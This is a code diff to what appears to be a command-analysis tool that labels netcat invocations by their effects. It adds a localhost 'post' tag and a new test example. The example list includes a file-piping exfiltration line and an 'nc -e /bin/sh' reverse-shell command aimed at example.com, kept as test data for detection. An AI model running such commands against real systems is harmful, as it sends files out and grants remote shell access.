@@ -28,10 +28,13 @@ export default [
       if (!host) return []
       const target = port && !has('-U') ? join(host, literal(':'), port) : host
       if (has('-z')) return [connect('query', target)]
-      return [connect('login', target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
+      // a line for a server of this machine is a request like another
+      const tag = hasStdin && /^(?:localhost|127\.0\.0\.1)$/.test(textOf(host) ?? '') ? 'post' : 'login'
+      return [connect(tag, target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
     },
     examples: [
       ['nc -zv localhost 5432', 'connect:query localhost:5432'],
+      ["printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 1 localhost 8000", 'connect:post localhost:8000', 'send:data localhost:8000'],
       ['cat a.txt | nc example.com 9000', 'read a.txt', 'connect:login example.com:9000', 'send:data example.com:9000'],
       ['nc -e /bin/sh example.com 4444', 'execute:remote-shell /bin/sh', 'connect:login example.com'],
       ['nc -l 8080', 'connect:listen 8080'],
